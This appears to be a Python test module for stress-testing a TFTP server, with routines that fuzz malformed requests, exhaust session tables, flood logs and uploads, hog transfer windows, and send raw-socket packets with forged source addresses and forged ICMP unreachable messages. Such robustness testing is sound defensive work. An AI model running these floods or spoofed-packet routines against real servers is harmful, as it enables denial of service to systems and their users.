"""What hostile clients do over TFTP. Each attack ends by itself, after so many packets or seconds."""
import contextlib
import socket
import struct
import threading
import time

from target import Deadline
from tftp_wire import WRQ, ack, data, request

LARGEST = 65_507  # bytes that fit into a datagram over IPv4


def padded(head, filling):
    return head + filling * ((LARGEST - len(head)) // len(filling))


def deep_name(parts):
    return "/" + "a/" * parts + "ap1g7"


# Requests that nobody means.
ODD_REQUESTS = {
    "empty options": padded(request("/big"), b"\0\0"),
    "known options": padded(request("/big"), b"blksize\x00512\0"),
    "long option": padded(request("/big", "blksize"), b"9"),
    "long name": padded(b"\0\1/", b"a"),
    "deep name": padded(b"\0\1", b"/a")[:-8] + b"\0octet\0",
    "many NULs": padded(b"\0\1", b"\0"),
    "write": padded(request("/uploads/x", opcode=WRQ), b"tsize\x005\0"),
    "17 options": request("/big", *["blksize", 512] * 17),
    "random opcode": padded(b"\0\x2a", b"x"),
    "no NUL": b"\0\1" + b"a" * 500,
    "no mode": b"\0\1/big\0",
    "odd number of options": b"\0\1/big\0octet\0blksize\0",
    "huge numbers": request("/big", "blksize", "9" * 400, "tsize", "-1", "windowsize", 2**64),
    "bytes that are no text": b"\0\1" + bytes(range(128, 256)) * 6 + b"\0octet\0",
    "mail": request("/big", mode="mail"),
}


def bound_to(source, timeout=5):
    sock = socket.socket(socket.AF_INET6 if ":" in source else socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((source, 0))
    sock.settimeout(timeout)
    return sock


def odd_requests(target, kind, source="127.0.0.2", count=100):
    """Each from a port of its own: a request from the same port is the same request again."""
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            sock = stack.enter_context(contextlib.closing(bound_to(source)))
            sock.sendto(ODD_REQUESTS[kind], target.tftp)
            time.sleep(0.005)  # the server's receive buffer holds only a few of these
        time.sleep(1)


@contextlib.contextmanager
def left_alone(address, sources, count, acknowledge=False, name="/big"):
    """`count` requests of each of the sources, which are never answered, or once: then as many as each may have at the
    most. Yields how many packets came back."""
    with contextlib.ExitStack() as stack:
        answered = 0
        for source in sources:
            for number in range(count):
                sock = stack.enter_context(contextlib.closing(bound_to(source, 0.3)))
                sock.sendto(request(name, "timeout", 255), address)
                if acknowledge:
                    try:
                        _, peer = sock.recvfrom(1024)
                    except TimeoutError:
                        break
                    sock.sendto(ack(0), peer)
                    answered += 1
                elif number % 20 == 19:
                    time.sleep(0.01)
        yield answered


def table_exhaustion(target, seconds, sources=("127.0.0.3", "127.0.0.4"), count=300):
    until = Deadline(seconds)
    while until:
        with left_alone(target.tftp, sources, count):
            until.wait(2)


STRAYS = {
    "acknowledgements": ack(1),
    "data": data(1, bytes(512)),
    "errors": b"\0\5\0\0" + b"x" * 400 + b"\0",
    "options": b"\0\6" + b"blksize\x00512\0" * 30,
    "one byte": b"\0",
    "nothing": b"",
}


def strays(target, seconds, kind, source="127.0.0.10", transfers=20, rate=4000):
    """What belongs to no transfer: to the port of requests and to those of running transfers, from the client that has
    them and from another. Not faster than the receive buffer of the requests' port is emptied on a busy machine."""
    until, packet, sent, began = Deadline(seconds), STRAYS[kind], 0, time.monotonic()
    with contextlib.ExitStack() as stack:
        peers = []
        for _ in range(transfers):
            sock = stack.enter_context(contextlib.closing(bound_to(source, 2)))
            sock.sendto(request("/big", "timeout", 255), target.tftp)
            with contextlib.suppress(OSError):
                peers.append((sock, sock.recvfrom(1024)[1]))
        other = stack.enter_context(contextlib.closing(bound_to(source, 2)))
        while until:
            if sent > (time.monotonic() - began) * rate:
                time.sleep(0.005)
                continue
            for sock, peer in peers:
                for by, to in ((sock, peer), (other, peer), (other, target.tftp), (sock, target.tftp)):
                    with contextlib.suppress(OSError):
                        by.sendto(packet, to)
                        sent += 1
    return sent


def slow_uploads(target, seconds, source="127.0.0.11", count=300):
    """Uploads that are begun, announce much and go on with a block now and then."""
    until, begun = Deadline(seconds), 0
    with contextlib.ExitStack() as stack:
        running = []
        for number in range(count):
            if not until:
                break
            sock = stack.enter_context(contextlib.closing(bound_to(source, 0.5)))
            sock.sendto(request(f"/uploads/slow-{number}", "tsize", 1 << 30, "timeout", 255, opcode=WRQ), target.tftp)
            with contextlib.suppress(OSError):
                answer, peer = sock.recvfrom(1024)
                if answer[1] != 5:
                    running.append((sock, peer))
                    begun += 1
        block = 0
        while until:
            block += 1
            for sock, peer in running:
                with contextlib.suppress(OSError):
                    sock.sendto(data(block, bytes(512)), peer)
            time.sleep(0.2)
    return begun


def half_filled_windows(target, seconds, source="127.0.0.15", count=300):
    """Uploads in windows: one is sent as a whole, and of the next one all but its last block."""
    window, block_size = 64, 1024
    until, begun = Deadline(seconds), 0
    with contextlib.ExitStack() as stack:
        for number in range(count):
            if not until:
                break
            sock = stack.enter_context(contextlib.closing(bound_to(source, 0.5)))
            sock.sendto(request(f"/uploads/half-{number}", "blksize", block_size, "windowsize", window, "timeout", 255,
                                opcode=WRQ), target.tftp)
            with contextlib.suppress(OSError):
                _, peer = sock.recvfrom(1024)
                for block in range(1, window + 1):
                    sock.sendto(data(block, bytes(block_size)), peer)
                answer, _ = sock.recvfrom(1024)
                if answer == ack(window):
                    begun += 1
                for block in range(window + 1, 2 * window):
                    sock.sendto(data(block, bytes(block_size)), peer)
        until.wait(until.rest)
    return begun


def forged_requests(target, seconds, source="127.0.0.13", count=50):
    """For as much as can be asked for, in the name of somebody who does not answer."""
    until = Deadline(seconds)
    while until:
        with contextlib.ExitStack() as stack:
            for _ in range(count):
                sock = stack.enter_context(contextlib.closing(bound_to(source)))
                sock.sendto(request("/big", "blksize", 65_464, "windowsize", 64, "utimeout", 10_000), target.tftp)
            until.wait(1)


def forged_addresses(target, seconds, name, rate=10_000, most=500_000):
    """Requests in the names of ever new addresses, 127.16.0.0 and on; takes the right to forge. Returns how many."""
    until, sent, began = Deadline(seconds), 0, time.monotonic()
    packet, port = request(name), target.tftp[1]
    with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)) as sock:
        while until:
            for _ in range(int((time.monotonic() - began) * rate) - sent):
                udp = struct.pack("!HHHH", 20_000 + sent % 1000, port, 8 + len(packet), 0) + packet
                ip = struct.pack("!BBHHHBBHI", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                                 0x7F100000 + sent % most) + socket.inet_aton(target.tftp[0])
                sock.sendto(ip + udp, (target.tftp[0], 0))
                sent += 1
            time.sleep(0.002)
    return sent


def checksum(packet):
    total = sum(struct.unpack(f"!{len(packet) // 2}H", packet))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def unreachable_hosts(target, seconds, rate=20_000):
    """ICMP says without end that a host cannot be reached to which the server's port has sent something. Takes the right
    to forge. Returns how often."""
    until, sent, began = Deadline(seconds), 0, time.monotonic()
    udp = struct.pack("!HHHH", target.tftp[1], 20_000, 8, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(target.tftp[0]), socket.inet_aton("127.0.0.16"))
    packet = struct.pack("!BBHI", 3, 1, 0, 0) + ip + udp
    packet = packet[:2] + struct.pack("!H", checksum(packet)) + packet[4:]
    with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)) as sock:
        while until:
            for _ in range(int((time.monotonic() - began) * rate) - sent):
                with contextlib.suppress(OSError):
                    sock.sendto(packet, (target.tftp[0], 0))
                sent += 1
            time.sleep(0.002)
    return sent


def hijacks(target, seconds, source="127.0.0.12"):
    """Requests and acknowledgements from the port of a transfer that runs."""
    until, sent = Deadline(seconds), 0
    while until:
        with contextlib.closing(bound_to(source, 1)) as sock:
            sock.sendto(request("/big", "blksize", 65_464, "windowsize", 64), target.tftp)
            with contextlib.suppress(OSError):
                _, peer = sock.recvfrom(1024)
                for number in range(300):
                    sock.sendto(request("/uploads/x" if number % 2 else "/EWC", opcode=WRQ if number % 2 else 1),
                                target.tftp)
                    sock.sendto(ack(number % 64), peer)
                    sent += 2
    return sent


MISSES = {"deep": deep_name(200), "deepest": deep_name(450), "short": "/nothing/ap1g7",
          "prefixed": "/x/y/EWC/17.9.5/ap1g7"}


def misses(target, seconds, kind="deep", rate=200, source="127.0.0.5"):
    """Asks for what is not there, below the limit of requests."""
    until, sent, began = Deadline(seconds), 0, time.monotonic()
    packet = request(MISSES[kind])
    with contextlib.ExitStack() as stack:
        ports = [stack.enter_context(contextlib.closing(bound_to(source))) for _ in range(200)]
        while until:
            due = int((time.monotonic() - began) * rate) - sent
            for _ in range(min(due, 200)):
                ports[sent % len(ports)].sendto(packet, target.tftp)
                sent += 1
            time.sleep(0.005)
    return sent


def window_hog(target, seconds, transfers=64, source="127.0.0.6", window=64, block_size=65_464):
    """Acknowledges each block by itself, so that each ACK asks for a whole window again."""
    until = Deadline(seconds)

    def hog():
        with contextlib.closing(bound_to(source, 1)) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            while until:
                sock.sendto(request("/big", "blksize", block_size, "windowsize", window), target.tftp)
                try:
                    _, peer = sock.recvfrom(1024)
                except (TimeoutError, ConnectionError):
                    continue
                for block in range(1025):
                    if not until:
                        return
                    with contextlib.suppress(ConnectionError):
                        sock.sendto(ack(block), peer)
                    if block % 16 == 15:
                        time.sleep(0.001)

    threads = [threading.Thread(target=hog) for _ in range(transfers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


# What a log is to be filled with: a name that is served all the same, and the text of an ERROR.
WORDY_NAME = b"\\" * 900 + b"EWC" + b"\\" * 60 + b"17_9_4a\\version.info"
WORDY_ERROR = b"\0\5\0\0" + b"\1" * 1024 + b"\0"


def log_flood(target, seconds, source="127.0.0.7", most=20_000):
    until, asked = Deadline(seconds), 0
    while until and asked < most:
        with contextlib.ExitStack() as stack:
            ports = [stack.enter_context(contextlib.closing(bound_to(source, 0.2))) for _ in range(50)]
            for sock in ports:
                sock.sendto(b"\0\1" + WORDY_NAME + b"\0octet\0", target.tftp)
            asked += len(ports)
            for sock in ports:
                with contextlib.suppress(OSError):
                    _, peer = sock.recvfrom(2048)
                    sock.sendto(WORDY_ERROR, peer)
    return asked


def uploads(target, seconds, source="127.0.0.8", most=2000):
    """Small files of ever new names, and ones that send more than they announced."""
    until, sent = Deadline(seconds), 0
    while until and sent < most:
        with contextlib.closing(bound_to(source, 1)) as sock:
            sock.sendto(request(f"/uploads/flood/{sent}", "tsize", 5, opcode=WRQ), target.tftp)
            sent += 1
            with contextlib.suppress(OSError):
                _, peer = sock.recvfrom(1024)
                for block in range(1, 20):
                    sock.sendto(data(block, bytes(512)), peer)
                    answer, _ = sock.recvfrom(1024)
                    if answer[1] == 5:
                        break
    return sent

